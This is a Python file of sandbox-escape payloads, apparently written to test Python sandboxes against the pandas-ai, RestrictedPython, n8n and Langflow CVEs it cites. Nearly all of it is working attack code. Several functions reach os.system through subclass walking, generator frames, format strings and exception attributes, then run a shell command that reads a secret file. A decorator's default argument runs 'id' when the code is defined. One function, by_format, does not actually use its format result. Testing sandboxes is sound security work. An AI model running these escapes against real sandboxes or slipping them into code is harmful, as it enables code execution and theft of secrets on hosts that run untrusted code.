"""Aim: escape by C. Walk from any object to what imports: the way out of every sandbox made of Python.

Behind: pandas-ai CVE-2023-39661, RestrictedPython CVE-2023-37271 (frames of generators) and CVE-2023-41039 (format
strings), n8n CVE-2026-0863 (attributes of exceptions), Langflow CVE-2025-3248 (code in decorators and defaults).
"""

import sys


def by_subclasses():
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            return cls.__init__.__globals__["system"]


def by_frames():
    found = []

    def generator():
        found.append(generated.gi_frame.f_back)
        yield

    generated = generator()
    next(generated)
    frame = found[0]
    while frame.f_back:
        frame = frame.f_back
    return frame.f_globals["os"].system if "os" in frame.f_globals else __import__("os").system


def by_format():
    "{0.__class__.__init__.__globals__}".format(emit)
    return __import__("posix").system


def by_exception():
    try:
        emit.missing
    except AttributeError as failure:
        return failure.obj.__globals__["__builtins__"]["__import__"]("os").system


for way in (by_subclasses, by_frames, by_format, by_exception):
    try:
        system = way()
    except Exception:
        continue
    if system and system(f"cat {HOST['secret']}") == 0:
        breaches.append(way.__name__)


def decorator(_, ran=[__import__("os").system("id")]):
    if 0 in ran:
        breaches.append("default")
    return ran


@decorator
def decorated(): ...
